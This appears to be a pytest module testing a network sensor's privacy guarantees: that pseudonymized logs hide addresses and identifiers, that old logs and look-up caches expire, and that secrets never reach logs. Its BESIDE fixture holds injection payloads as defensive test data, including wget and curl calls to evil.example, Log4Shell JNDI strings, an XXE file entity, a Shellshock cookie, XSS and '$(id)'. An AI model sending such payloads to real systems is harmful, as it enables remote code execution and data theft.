"""Rows P1 to P5: what says who visited what stays out of every output where it is to, goes when its days are over, and
payload never comes near one."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path
from urllib.request import urlopen

import msgspec
import pytest

from sensor.cli.main import main
from sensor.logs.records import STREAMS
from sensor.privacy.key_file import load_key
from tests.cli.running import Live
from tests.cli.test_crew import office_frames
from tests.conftest import Cable
from tests.hostile.rows import REPOSITORY, Guard, NotHere, Row
from tests.hostile.witness import conversation, watch
from tests.http.wire import get, post, reply

PSEUDONYMOUS = "sensor/logs/sinks/pseudonymous.py"
ROWS = {
    "P1": Row(
        "an address in any output of a sensor that is to name nobody",
        ("privacy.max_pseudonyms",),
        guards=(
            Guard(
                "sensor/logs/treatment.py", '_T.address: "id.orig_h id.resp_h src', '_T.address: "id.orig_h id.resp_h'
            ),
            Guard("sensor/report/disguise.py", "names.address(client),", "client,"),
            Guard("sensor/privacy/key_file.py", "if status.st_mode & 0o077:", "if False:"),
            Guard("sensor/cli/disguise.py", "self._pseudonyms.uid(flow.uid)", "flow.uid"),
            Guard("sensor/privacy/crypto_pan.py", "lru_cache(remembered)", "lru_cache(None)"),
        ),
        tests=(
            "privacy/test_crypto_pan.py::test_as_many_leading_bits_are_shared_as_before",
            "privacy/test_crypto_pan.py::test_no_more_is_remembered_than_was_said",
            "privacy/test_key_file.py::test_one_that_others_reach_is_refused",
            "cli/test_disguise.py::test_a_crash_names_places_and_no_values",
            "cli/test_disguise.py::test_nor_with_the_uid_where_nobody_is_named",
        ),
    ),
    "P2": Row(
        "names, serial numbers, URIs, user agents and nonces there",
        ("privacy.max_pseudonyms",),
        guards=(
            Guard(
                PSEUDONYMOUS,
                "out.append(self._keys[name] + self._treated(treatment, name, raw, values))",
                "out.append(self._keys[name] + bytes(raw))",
            ),
            Guard(PSEUDONYMOUS, "return text if text in self._words else", "return text if text else"),
            Guard("sensor/privacy/pseudonyms.py", "lru_cache(remembered)", "lru_cache(None)"),
        ),
        tests=(
            "logs/test_treatment.py::test_every_field_is_in_the_table",
            "logs/sinks/test_pseudonymous.py::test_a_word_stands_and_any_other_does_not",
            "privacy/test_pseudonyms.py::test_long_texts_are_not_remembered",
        ),
    ),
    "P3": Row(
        "logs, and what is remembered of look-ups, that are older than they may be",
        ("logs.keep_days", "online.keep_days", "online.found_ttl_s", "online.negative_ttl_s"),
        guards=(
            Guard("sensor/crtsh/remembered.py", "            self._trim(clock())", "            pass"),
            Guard("sensor/crtsh/desk.py", "            self._answers.trim()\n", "            pass\n"),
            Guard("sensor/ct/pruning.py", "and row.learned_at < before", ""),
            Guard("sensor/logs/sinks/archive.py", "self._keep_s = keep_days * _DAY_S", "self._keep_s = 0"),
            Guard("sensor/crtsh/desk.py", "if not self._keep_s or abs(", "if abs("),
            Guard("sensor/crtsh/remembered.py", "Outcome.found: settings.found_ttl_s,", "Outcome.found: 1e9,"),
            Guard(
                "sensor/crtsh/remembered.py", "Outcome.not_found: settings.negative_ttl_s,", "Outcome.not_found: 1e9,"
            ),
        ),
        tests=(
            "crtsh/test_desk.py::test_answers_are_forgotten_in_time",
            "crtsh/test_desk.py::test_what_is_imported_after_it_was_asked_about_stays",
            "crtsh/test_remembered.py::test_each_outcome_is_believed_for_its_time_over_restarts",
            "logs/sinks/test_archive.py::test_archives_are_deleted_when_their_days_are_over_and_nothing_else",
            "logs/sinks/test_archive.py::test_a_clock_that_jumps_deletes_nothing_for_a_day",
        ),
        note="What crt.sh was asked is forgotten after a day, what it answered after 90: docs/privacy.md",
    ),
    "P4": Row(
        "payload in logs, messages and core dumps",
        guards=(
            Guard("sensor/http/attacks.py", "return found[0] if whole is None else whole[0]", "return text"),
            Guard("sensor/http/refusal.py", '"bad_HTTP_request", look(line))', '"bad_HTTP_request", line)'),
            Guard("sensor/http/refusal.py", "look(data[pos : found.start()])", "data[pos : found.start()]"),
            Guard("sensor/http/outline.py", 'return b"something behind digits"', "return data[pos : pos + 64]"),
            Guard("sensor/http/outline.py", "return _WORD.sub(_part, value)", "return value"),
            Guard("sensor/http/head.py", "name_of(name) if colon else None", "name"),
            Guard("sensor/ocsp/oddities.py", "if _DATE.fullmatch(first)", "if first"),
            Guard("sensor/cli/replay.py", "    keep_values_from_crashes(settings)\n", ""),
            Guard("sensor/http/lookups.py", "_BORDER.split(lookup[:MAX_LOOKUP], 1)[0]", "lookup"),
            Guard(
                "sensor/http/attacks.py",
                "return text[: brace.end() if other is None else other.start()]",
                "return text",
            ),
        ),
        tests=(
            "service/test_privileges.py::test_started_as_root_it_becomes_nobody_and_can_do_nothing_else",
            "cli/test_disguise.py::test_a_bug_of_ours_is_told_without_payload",
            "cli/test_disguise.py::test_nor_leaves_it_a_core_behind",
        ),
        note="There is no `--unsafe`: nothing writes payload",
    ),
    "P5": NotHere("look-ups of the sensor's own", "Rows C1, C10 and C11"),
}
CAPTURES = [
    REPOSITORY / "pcaps" / name
    for name in (
        "office/morning.pcapng",
        "clear/curl-credentials.pcap",
        "clear/curl-cookies.pcap",
        "clear/log4j-headers.pcap",
        "clear/injection.pcap",
        "audit/status-conflicting.pcap",
        "audit/nonce-mismatch.pcap",
    )
]
OFFICE = CAPTURES[0]
TELLING = {
    *("uid", "fuid", "id", "orig_fuid", "resp_fuid", "orig_fuids", "resp_fuids", "community_id", "host", "uri", "url"),
    *("referrer", "origin", "user_agent", "username", "filename", "orig_filenames", "resp_filenames", "proxied", "md5"),
    *("sha1", "sha256", "serialNumber", "serial_number", "issuerNameHash", "issuerKeyHash", "issuer_name_hash"),
    *("issuer_key_hash", "issuer", "nonce", "requestor_name", "responder_id", "on_crl", "file_desc", "site", "names"),
    *(
        "addl",
        "cookies",
        "set_cookies",
        "lookups",
        "suspect",
        "fingerprint",
        "certificate.serial",
        "san.dns",
        "san.uri",
    ),
    *("certificate.subject", "certificate.issuer", "crl_number", "authority_key_id", "asked_serials"),
    *("distribution_points", "freshest_crl", "base_crl_number", "san.email", "san.ip", "src", "dst"),
    *("id.orig_h", "id.resp_h", "tunnel_parents", "found_in"),
}
"""Named here once more, so that a wrong line in the program's table is found."""
SHORTEST = 6
HARMLESS = {"http://", "http:/"}


pytestmark = pytest.mark.usefixtures("own_process_state")


def replay(capture: Path, out: Path, *more: str) -> dict[str, list[dict[str, object]]]:
    assert main(["replay", str(capture), "-o", str(out), "--community-id", "--rules", "shipped", *more]) in {0, 3}
    return {path.stem: [json.loads(line) for line in path.read_text().splitlines()] for path in out.glob("*.log")}


def values(logs: dict[str, list[dict[str, object]]], names: set[str]) -> Iterator[str]:
    for rows in logs.values():
        for row in rows:
            for name in names & row.keys():
                found = row[name]
                yield from map(str, found if isinstance(found, list) else [found])


@pytest.mark.parametrize("capture", CAPTURES, ids=lambda path: path.stem)
def test_p1_p2_no_output_has_anything_that_is_in_the_clear_logs(
    capture: Path, tmp_path: Path, key: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    if (known := capture.parent / "certs").is_dir():  # so that there are names
        assert main(["ct", "import", str(known)]) in {0, 3}
    clear = replay(capture, tmp_path / "clear")
    told = {value for value in values(clear, TELLING) if len(value) >= SHORTEST} - HARMLESS
    addresses = {value for value in values(clear, {"id.orig_h", "id.resp_h"}) if ip_address(value)}
    assert len(addresses) >= 2
    capfd.readouterr()
    disguised = replay(capture, tmp_path / "logs", "--pseudonymize", str(key))
    said = capfd.readouterr()
    assert main(["replay", str(capture), "--json", "--rules", "shipped", "--pseudonymize", str(key)]) in {0, 3}
    streamed = capfd.readouterr()
    assert "Who disclosed what" in said.out and streamed.out.count("\n") > 1
    names = said.out.replace(str(capture), "").replace(str(capture.relative_to(REPOSITORY)), "")
    outputs = [names, said.err, streamed.out, streamed.err]
    outputs += [json.dumps(row, ensure_ascii=False) for rows in disguised.values() for row in rows]
    text = "\n".join(outputs)
    for value in told | addresses:
        spelled = json.dumps(value, ensure_ascii=False)[1:-1]
        if value in text or spelled in text:
            assert not re.search(rf"(?<![\w.]){re.escape(spelled)}(?![\w.])", text), value
    assert key.read_text().strip() not in text
    assert {log: len(rows) for log, rows in disguised.items()} == {log: len(rows) for log, rows in clear.items()}


@pytest.mark.needs("root", "namespaces", "ip")
@pytest.mark.parametrize("workers", ["1", "2"])
def test_p1_p2_a_running_sensor_names_nobody(wire: Cable, tmp_path: Path, key: Path, workers: str) -> None:
    """Its logs, what it says on standard error meanwhile, its page for Prometheus, and its summary."""
    assert main(["ct", "import", "--ct", str(tmp_path / "ct" / "ct.sqlite"), str(OFFICE.parent / "certs")]) in {0, 3}
    cache = ("--ct", str(tmp_path / "ct" / "ct.sqlite"))
    clear = replay(OFFICE, tmp_path / "clear", *cache)
    told = {value for value in values(clear, TELLING) if len(value) >= SHORTEST} - HARMLESS
    told |= {value for value in values(clear, {"id.orig_h", "id.resp_h"}) if ip_address(value)}
    words = ["-i", "w1", "-o", str(tmp_path / "logs"), *cache, "--rules", "shipped", "--community-id"]
    words += ["--workers", workers, "--metrics", "127.0.0.1:9475", "--pseudonymize", str(key)]
    live = Live(tmp_path, *words, before=("--set", "health.interval_s=1"))
    wire.send(*office_frames())
    assert live.process.stderr is not None
    said = []
    for line in live.process.stderr:
        said.append(line)
        if line.endswith(" 40 disclosures\n"):
            break
    assert live.process.poll() is None, [*live.rights, *said]
    with urlopen("http://127.0.0.1:9475/metrics", timeout=5) as answer:
        page = answer.read().decode()
    code, out, err = live.stop()
    assert code == 0, err
    logs = "".join(path.read_text() for path in (tmp_path / "logs").glob("*.log"))
    assert "Who disclosed what" in out and "ocspwatch_leaks_total" in page and logs.count("\n") > 300
    text = "\n".join([*live.rights, live.said, *said, err, out, page, logs])
    for value in told:
        spelled = json.dumps(value, ensure_ascii=False)[1:-1]
        if value in text or spelled in text:
            assert not re.search(rf"(?<![\w.]){re.escape(spelled)}(?![\w.])", text), value
    for log in ("http", "ocsp_exchange", "leak", "crl"):
        assert (tmp_path / "logs" / f"{log}.log").read_text().count("\n") == len(clear[log])


def test_p1_prefixes_are_kept_and_joins_hold(tmp_path: Path, key: Path) -> None:
    clear, disguised = replay(OFFICE, tmp_path / "a"), replay(OFFICE, tmp_path / "b", "--pseudonymize", str(key))
    new: dict[str, str] = {}
    for log, rows in clear.items():
        for row, other in zip(rows, disguised[log], strict=True):
            assert list(row) == list(other)
            for name in {"uid", "fuid", "id.orig_h", "id.resp_h", "serial_number", "host", "orig_fuid"} & row.keys():
                before, after = str(row[name]), str(other[name])
                assert new.setdefault(before, after) == after, f"{log} {name}"
    assert len(set(new.values())) == len(new)
    ends = [(ip_address(one), ip_address(two)) for one, two in new.items() if re.fullmatch(r"\d+(\.\d+){3}", one)]
    assert len(ends) > 5
    for one, first in ends:
        for other, second in ends:
            assert (int(one) ^ int(other)).bit_length() == (int(first) ^ int(second)).bit_length()


@pytest.mark.parametrize("how", [(), ("--timestamps", "iso8601"), ("--timestamps", "millis", "--stream")])
def test_p1_every_line_is_still_of_its_logs_type(tmp_path: Path, key: Path, how: tuple[str, ...]) -> None:
    logs = replay(OFFICE, tmp_path / "logs", "--pseudonymize", str(key), *how)
    assert {"conn", "http", "files", "ocsp", "ocsp_exchange", "leak", "notice", "crl"} <= logs.keys()
    for log, rows in logs.items():
        for row in rows:
            if not how:
                msgspec.convert(row, STREAMS[log])
            assert set(row) <= set(STREAMS[log].__struct_encode_fields__)


def test_p1_the_same_key_gives_the_same_bytes_and_another_others(
    tmp_path: Path, key: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    ways = {"once": (), "again": (), "by two": ("--workers", "2")}
    written = {}
    for number, (way, more) in enumerate(ways.items()):
        folder = tmp_path / str(number)
        assert main(["replay", str(OFFICE), "-o", str(folder), "--pseudonymize", str(key), *more]) == 0
        written[way] = ({p.name: p.read_bytes() for p in folder.iterdir()}, capfd.readouterr().out)
    assert written["once"] == written["again"] == written["by two"]
    load_key(f"new:{tmp_path / 'other'}")
    other = replay(OFFICE, tmp_path / "x", "--pseudonymize", str(tmp_path / "other"))
    mine = [json.loads(line) for line in written["once"][0]["leak.log"].splitlines()]
    assert {row["serial_number"] for row in other["leak"] if "serial_number" in row}.isdisjoint(
        row.get("serial_number") for row in mine
    )


@pytest.mark.parametrize("name", ["curl-credentials", "curl-cookies"])
def test_p4_secrets_are_in_no_log_and_no_message(name: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    capture = REPOSITORY / "pcaps" / "clear" / f"{name}.pcap"
    raw = capture.read_bytes()
    secrets = set(re.findall(rb"\r\nCookie: [^=\r]+=([^;\r]{6,})", raw))
    secrets |= set(re.findall(rb"\r\nAuthorization: \w+ ([^\r]{6,})", raw))
    assert secrets
    replay(capture, tmp_path / name)
    said = capfd.readouterr()
    told = (said.out + said.err).encode() + b"".join(path.read_bytes() for path in (tmp_path / name).iterdir())
    assert [secret for secret in secrets if secret in told] == []


FORM = b"Content-Type: application/x-www-form-urlencoded"
JSON = b"Content-Type: application/json"
XML = b"Content-Type: text/xml"
BESIDE = {
    "form": post(b"/a", b"cmd=;wget http://evil.example/x;&password=HUNTER2&card=HUNTER2", FORM),
    "form, bean": post(b"/a", b"class.module.classLoader.a=HUNTER2&b=HUNTER2", FORM),
    "json": post(b"/b", b'{"q":"${jndi:ldap://evil.example/a}","password":"HUNTER2"}', JSON),
    "json, lookup without end": post(b"/b", b'{"q":"${jndi:ldap://evil.example/a","password":"HUNTER2"}', JSON),
    "json, command": post(b"/b", b'{"q":"|curl http://evil.example/x","password":"HUNTER2"}', JSON),
    "xml": post(b"/c", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a><password>HUNTER2</password></a>", XML),
    "xml, entity": post(b"/c", b"<!DOCTYPE a [<!ENTITY b 'HUNTER2'>]><a><password>&b;</password></a>", XML),
    "no length": get(b"/d", b"Cookie: a=${jndi:ldap://evil.example/a}") + b"password=HUNTER2\r\nHUNTER2\r\n",
    "no chunks": get(b"/d", b"Cookie: a=${jndi:x://a/a}", b"Transfer-Encoding: chunked")
    + b"password=HUNTER2\r\nHUNTER2\r\n",
    "cookie": get(b"/d", b"Cookie: sid=HUNTER2; x=${jndi:ldap://evil.example/a}; y=HUNTER2"),
    "cookie, no blanks": get(b"/d", b"Cookie: sid=HUNTER2;x=${jndi:ldap://evil.example/a;y=HUNTER2"),
    "cookie, function": get(b"/d", b"Cookie: () { HUNTER2; }; sid=HUNTER2"),
    "api key": get(b"/e", b"X-Api-Key: <script>alert(1)</script>HUNTER2"),
    "token": get(b"/e", b"X-Auth-Token: <?php HUNTER2"),
    "bearer": get(b"/f", b"Authorization: Bearer HUNTER2 ${jndi:ldap://evil.example/a}HUNTER2"),
    "proxy": get(b"/f", b"Proxy-Authorization: Bearer HUNTER2 $(id) HUNTER2"),
}


@pytest.mark.parametrize("name", BESIDE)
def test_p4_what_stands_beside_an_attack_is_in_no_log(name: str) -> None:
    seen = watch(conversation(("c", BESIDE[name]), ("s", reply())))
    (told,) = seen.of("cleartext")
    assert told.get("suspect") or told.get("lookups")
    assert "HUNTER2" not in json.dumps(seen.logs)
